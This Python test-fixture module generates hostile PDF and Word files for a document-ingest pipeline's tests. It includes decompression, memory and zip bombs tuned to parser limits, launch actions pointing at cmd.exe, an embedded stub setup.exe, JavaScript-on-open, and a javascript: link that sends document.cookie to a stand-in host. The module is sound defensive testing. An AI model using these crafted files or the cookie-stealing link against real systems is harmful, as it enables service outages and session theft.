"""Hostile and broken files, generated here (never downloaded), for the ingest tests."""

from __future__ import annotations

import io
import os
import struct
import zipfile
import zlib

import pymupdf
from PIL import Image

from meetings.minutes.fonts import SerifStyle, font_dir

FONT = str(font_dir() / SerifStyle.REGULAR.value)  # every Vietnamese glyph


def simple_pdf(text: str = "Báo cáo tình hình đầu tư công năm 2026", pages: int = 1) -> bytes:
    doc = pymupdf.open()
    for n in range(pages):
        page = doc.new_page(width=595, height=842)
        page.insert_text((72, 100), f"{text} - trang {n + 1}", fontname="F0", fontfile=FONT,
                         fontsize=14)
    return bytes(doc.tobytes())


def raw_pdf(objects: list[bytes], root: int = 1) -> bytes:
    """A PDF written by hand, with a correct cross-reference table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    for offset in offsets:
        out += f"{offset:010d} 00000 n \n".encode()
    out += (f"trailer\n<< /Size {len(objects) + 1} /Root {root} 0 R >>\nstartxref\n{xref}\n"
            "%%EOF\n").encode()
    return bytes(out)


def stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n" % (len(data), extra) + data + b"\nendstream"


def zero_pages() -> bytes:
    return raw_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"])


def huge_page(side_mm: int = 5000) -> bytes:
    side = side_mm / 25.4 * 72
    doc = pymupdf.open()
    page = doc.new_page(width=side, height=side)
    page.insert_text((72, 100), "Trang 5 m x 5 m", fontname="helv", fontsize=400)
    return bytes(doc.tobytes())


def many_pages(count: int = 20_000) -> bytes:
    """`count` small pages sharing one content stream, written by hand (fast)."""
    first_page = 4
    kids = " ".join(f"{first_page + n} 0 R" for n in range(count)).encode()
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>",
               b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % count,
               stream(b"BT /F1 12 Tf 20 100 Td (Trang) Tj ET")]
    page = (b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 3 0 R "
            b"/Resources << /Font << /F1 %d 0 R >> >> >>" % (first_page + count))
    objects += [page] * count
    objects.append(b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")
    return raw_pdf(objects)


def truncated() -> bytes:
    data = simple_pdf(pages=3)
    return data[: len(data) // 4]


def broken_xref() -> bytes:
    """Every offset in the cross-reference table points to the wrong place."""
    data = simple_pdf(pages=2)
    doc = pymupdf.open(stream=data)
    uncompressed = bytes(doc.tobytes(garbage=0, no_new_id=True, expand=255))
    head, _, tail = uncompressed.partition(b"\nxref\n")
    lines = tail.split(b"\n")
    broken = [line.replace(b" 00000 n", b" 00000 n").replace(line[:10], b"0000000017")
              if line.endswith(b" n") or line.endswith(b" n ") else line for line in lines]
    return head + b"\nxref\n" + b"\n".join(broken)


def _zero_deflate(size: int, chunk: int = 16 * 1024 * 1024) -> bytes:
    """zlib data that inflates to `size` zero bytes, built without compressing them all:
    each full-flushed chunk compresses to the same bytes, so it is repeated."""
    assert size % chunk == 0
    c = zlib.compressobj(9)
    first = c.compress(bytes(chunk)) + c.flush(zlib.Z_FULL_FLUSH)
    middle = c.compress(bytes(chunk)) + c.flush(zlib.Z_FULL_FLUSH)
    end = c.flush(zlib.Z_FINISH)[:-4]
    adler = struct.pack(">I", ((size % 65521) << 16) | 1)
    return first + middle * (size // chunk - 1) + end + adler


def decompression_bomb(gigabytes: int = 4) -> bytes:
    """A small PDF whose one image inflates to `gigabytes` GB (twice-deflated zeros)."""
    side = int((gigabytes * 1024**3 / 3) ** 0.5) // 16 * 16
    size = side * side * 3
    size -= size % (16 * 1024 * 1024)
    side = int((size / 3) ** 0.5)
    inner = _zero_deflate(size)
    outer = zlib.compress(inner, 9)
    image = stream(outer, b"/Type /XObject /Subtype /Image /Width %d /Height %d "
                   b"/ColorSpace /DeviceRGB /BitsPerComponent 8 "
                   b"/Filter [/FlateDecode /FlateDecode]" % (side, side))
    content = b"q 500 0 0 700 50 50 cm /Im0 Do Q BT /F1 12 Tf 72 800 Td (Bomb) Tj ET"
    return raw_pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /XObject << /Im0 5 0 R >> /Font << /F1 6 0 R >> >> >>",
        stream(content),
        image,
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ])


def content_bomb(gigabytes: int = 2) -> bytes:
    """A page whose content stream inflates to `gigabytes` GB of whitespace: reading its
    text takes CPU time without end."""
    inner = _zero_deflate(gigabytes * 1024**3)
    contents = stream(zlib.compress(inner, 9), b"/Filter [/FlateDecode /FlateDecode]")
    return raw_pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
        contents,
    ])


def memory_bomb() -> bytes:
    """A 2 kB page whose one shading asks for 1.7 GB at once: four sampled functions (one
    per CMYK ink) of 100 million samples each, which MuPDF holds as floats (400 MB each).
    Each function's samples are twice-deflated zeros; every other limit is met."""
    samples = (100 << 20) - 16  # just under MuPDF's own cap for one sampled function
    data = zlib.compress(_zero_deflate((samples // (16 << 20) + 1) * (16 << 20)), 9)
    function = stream(data, b"/FunctionType 0 /Domain [0 1] /Range [0 1] /Size [%d] "
                      b"/BitsPerSample 8 /Filter [/FlateDecode /FlateDecode]" % samples)
    return raw_pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Shading << /Sh0 5 0 R >> >> >>",
        stream(b"q 0 0 595 842 re W n /Sh0 sh Q"),
        b"<< /ShadingType 2 /ColorSpace /DeviceCMYK /Coords [0 0 595 0] "
        b"/Function [6 0 R 7 0 R 8 0 R 9 0 R] /Extend [true true] >>",
        function, function, function, function,
    ])


def deeply_nested(depth: int = 100_000) -> bytes:
    nested = b"[" * depth + b"]" * depth
    content = b"BT /F1 12 Tf 72 800 Td (Nested) Tj ET"
    return raw_pdf([
        b"<< /Type /Catalog /Pages 2 0 R /Deep 6 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> /Properties << /Deep 6 0 R >> >> >>",
        stream(content),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        b"<< /Nested " + nested + b" >>",
    ])


EXE = b"MZ\x90\x00" + b"\x00" * 60 + b"This program cannot be run in DOS mode.\r\n" + b"\x00" * 200


def active_content() -> bytes:
    """JavaScript on open, a launch action, a URI link, a form field and an embedded .exe."""
    doc = pymupdf.open()
    page = doc.new_page(width=595, height=842)
    page.insert_text((72, 100), "Tài liệu có mã độc", fontname="F0", fontfile=FONT, fontsize=14)
    page.insert_link({"kind": pymupdf.LINK_URI, "from": pymupdf.Rect(72, 120, 300, 140),
                      "uri": "http://example.invalid/steal"})
    page.insert_link({"kind": pymupdf.LINK_LAUNCH, "from": pymupdf.Rect(72, 150, 300, 170),
                      "file": "C:/Windows/System32/cmd.exe"})
    widget = pymupdf.Widget()
    widget.field_type = pymupdf.PDF_WIDGET_TYPE_TEXT
    widget.field_name = "password"
    widget.rect = pymupdf.Rect(72, 200, 300, 220)
    widget.script = "app.alert('field');"
    page.add_widget(widget)
    doc.embfile_add("setup.exe", EXE, filename="setup.exe")
    catalog = doc.pdf_catalog()
    js = doc.get_new_xref()
    doc.update_object(js, "<< /S /JavaScript /JS (app.alert\\('opened'\\);) >>")
    doc.xref_set_key(catalog, "OpenAction", f"{js} 0 R")
    return bytes(doc.tobytes())


def visible_form_field() -> bytes:
    """A filled-in, coloured form field with a script: cleaning removes it from the page."""
    doc = pymupdf.open(stream=simple_pdf("Phiếu góp ý dự thảo nghị quyết"))
    widget = pymupdf.Widget()
    widget.field_type = pymupdf.PDF_WIDGET_TYPE_TEXT
    widget.field_name = "y_kien"
    widget.field_value = "Nhap y kien"
    widget.rect = pymupdf.Rect(72, 200, 400, 236)
    widget.border_color = (0.8, 0, 0)
    widget.fill_color = (1, 1, 0.6)
    widget.script = "app.alert('field');"
    doc[0].add_widget(widget)
    return bytes(doc.tobytes())


def encrypted(password: str = "mat-khau") -> bytes:
    doc = pymupdf.open(stream=simple_pdf("Tài liệu mật"))
    return bytes(doc.tobytes(encryption=pymupdf.PDF_ENCRYPT_AES_256, user_pw=password,
                             owner_pw=password + "-owner"))


def docx(text: str = "Báo cáo đầu tư công", paragraphs: int = 1) -> bytes:
    """A minimal Word document, written by hand."""
    body = "".join(f"<w:p><w:r><w:t>{text} {n + 1}</w:t></w:r></w:p>" for n in range(paragraphs))
    return _word(body)


def docx_long_table(rows: int = 20_000, columns: int = 4) -> bytes:
    """A Word document of one table of `rows` rows (a 250 kB file): LibreOffice lays out a
    long table in time that grows faster than its length (5,000 rows of 4 cells take it
    about a minute here), so converting this one keeps soffice busy for many minutes."""
    cells = "".join(f"<w:tc><w:p><w:r><w:t>Ô {{r}}.{c + 1}</w:t></w:r></w:p></w:tc>"
                    for c in range(columns))
    body = "<w:tbl>" + "".join(f"<w:tr>{cells.format(r=r + 1)}</w:tr>"
                               for r in range(rows)) + "</w:tbl>"
    return _word(body)


def _word(body: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml",
                   '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxml'
                   'formats.org/package/2006/content-types"><Default Extension="rels" ContentT'
                   'ype="application/vnd.openxmlformats-package.relationships+xml"/><Default E'
                   'xtension="xml" ContentType="application/xml"/><Override PartName="/word/do'
                   'cument.xml" ContentType="application/vnd.openxmlformats-officedocument.wor'
                   'dprocessingml.document.main+xml"/></Types>')
        z.writestr("_rels/.rels",
                   '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas'
                   '.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Ty'
                   'pe="http://schemas.openxmlformats.org/officeDocument/2006/relationships/of'
                   'ficeDocument" Target="word/document.xml"/></Relationships>')
        z.writestr("word/document.xml",
                   '<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.'
                   'openxmlformats.org/wordprocessingml/2006/main"><w:body>' + body +
                   "</w:body></w:document>")
    return out.getvalue()


def docx_zip_bomb(megabytes: int = 256) -> bytes:
    """A .docx whose document.xml inflates to `megabytes` MB, about 1000 times its size."""
    good = zipfile.ZipFile(io.BytesIO(docx()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for info in good.infolist():
            if info.filename != "word/document.xml":
                z.writestr(info, good.read(info))
        info = zipfile.ZipInfo("word/document.xml")
        info.compress_type = zipfile.ZIP_DEFLATED
        with z.open(info, "w", force_zip64=True) as f:
            block = b" " * (16 * 1024 * 1024)
            for _ in range(megabytes // 16):
                f.write(block)
    return out.getvalue()


def _one_page(annots: bytes, *more: bytes, font: bool = True) -> bytes:
    """One A4 page saying what it holds, with the annotation array `annots` (written as is)
    and the objects `more` numbered from 6."""
    content = b"BT /F1 14 Tf 72 760 Td (Bam vao day) Tj ET"
    return raw_pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> /Annots " + annots + b" >>",
        stream(content),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        *more,
    ])


JAVASCRIPT_URI = b"javascript:fetch\\('http://example.invalid/'+document.cookie\\)"


def inline_links() -> bytes:
    """Links whose annotations have no object number of their own: dictionaries written
    inside the page's /Annots array, one with a `javascript:` URI, one running JavaScript,
    one launching a program. A link to the page itself, inline too, is harmless and stays."""
    return _one_page(
        b"[<< /Type /Annot /Subtype /Link /Rect [72 750 300 780] /Border [0 0 0] "
        b"/A << /S /URI /URI (" + JAVASCRIPT_URI + b") >> >> "
        b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 730] "
        b"/A << /S /JavaScript /JS (app.alert\\('inline'\\);) >> >> "
        b"<< /Type /Annot /Subtype /Link /Rect [72 650 300 680] "
        b"/A << /S /Launch /F (C:/Windows/System32/cmd.exe) >> >> "
        b"<< /Type /Annot /Subtype /Link /Rect [72 600 300 630] /Dest [3 0 R /Fit] >>]")


def carrier_annotations() -> bytes:
    """A file-attachment annotation (a paperclip holding setup.exe) with its pop-up note, and
    the multimedia annotations (sound, movie, screen, rich media, 3D), some numbered, some
    inline."""
    return _one_page(
        b"[6 0 R 7 0 R << /Type /Annot /Subtype /Sound /Rect [72 500 90 520] /Sound 8 0 R >> "
        b"<< /Type /Annot /Subtype /Movie /Rect [100 500 200 560] /Movie << /F (phim.avi) >> >> "
        b"9 0 R << /Type /Annot /Subtype /RichMedia /Rect [300 500 400 560] "
        b"/RichMediaContent << /Assets << /Names [(a.swf) 10 0 R] >> >> >> "
        b"<< /Type /Annot /Subtype /3D /Rect [400 500 500 560] /3DD 8 0 R >>]",
        b"<< /Type /Annot /Subtype /FileAttachment /Rect [72 600 90 620] /Name /PushPin "
        b"/Contents (setup.exe) /FS << /Type /Filespec /F (setup.exe) /UF (setup.exe) "
        b"/EF << /F 8 0 R >> >> /Popup 7 0 R >>",
        b"<< /Type /Annot /Subtype /Popup /Rect [100 600 300 700] /Parent 6 0 R >>",
        stream(EXE, b"/Type /EmbeddedFile"),
        b"<< /Type /Annot /Subtype /Screen /Rect [200 500 300 560] "
        b"/A << /S /Rendition /R << /C << /D << /F (phim.avi) >> >> >> >> >>",
        b"<< /Type /Filespec /F (a.swf) /EF << /F 8 0 R >> >>",
    )


def header_only() -> bytes:
    """A PDF header, then nothing MuPDF can open: it names the file it failed on."""
    return b"%PDF-1.7\n" + b"\x00garbage" * 100 + b"\n%%EOF\n"


def docx_with_photo(side: int = 1600) -> bytes:
    """A .docx holding one photo of `side` x `side` pixels of noise (7.7 MB for 1600): its PDF
    is about 2 MB, since noise does not compress."""
    image = Image.frombytes("RGB", (side, side), os.urandom(side * side * 3))
    png = io.BytesIO()
    image.save(png, "PNG")
    emu = 5_000_000  # the picture's size on the page: 13.9 cm
    ns = ('xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
          'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
          'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
          'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
          'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"')
    drawing = (
        f'<w:p><w:r><w:drawing><wp:inline><wp:extent cx="{emu}" cy="{emu}"/>'
        '<wp:docPr id="1" name="Ảnh"/><a:graphic><a:graphicData uri="http://schemas.openxmlf'
        'ormats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="anh.'
        'png"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:embed="rIdImg"/><a:stretch>'
        '<a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/>'
        f'<a:ext cx="{emu}" cy="{emu}"/></a:xfrm><a:prstGeom prst="rect"/></pic:spPr></pic:pic>'
        '</a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>')
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml",
                   '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxml'
                   'formats.org/package/2006/content-types"><Default Extension="rels" ContentT'
                   'ype="application/vnd.openxmlformats-package.relationships+xml"/><Default E'
                   'xtension="xml" ContentType="application/xml"/><Default Extension="png" Con'
                   'tentType="image/png"/><Override PartName="/word/document.xml" ContentType='
                   '"application/vnd.openxmlformats-officedocument.wordprocessingml.document.m'
                   'ain+xml"/></Types>')
        z.writestr("_rels/.rels",
                   '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas'
                   '.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Ty'
                   'pe="http://schemas.openxmlformats.org/officeDocument/2006/relationships/of'
                   'ficeDocument" Target="word/document.xml"/></Relationships>')
        z.writestr("word/_rels/document.xml.rels",
                   '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas'
                   '.openxmlformats.org/package/2006/relationships"><Relationship Id="rIdImg" '
                   'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
                   'image" Target="media/anh.png"/></Relationships>')
        z.writestr("word/media/anh.png", png.getvalue())
        z.writestr("word/document.xml",
                   f'<?xml version="1.0" encoding="UTF-8"?><w:document {ns}><w:body><w:p><w:r>'
                   f"<w:t>Ảnh hiện trường</w:t></w:r></w:p>{drawing}</w:body></w:document>")
    return out.getvalue()
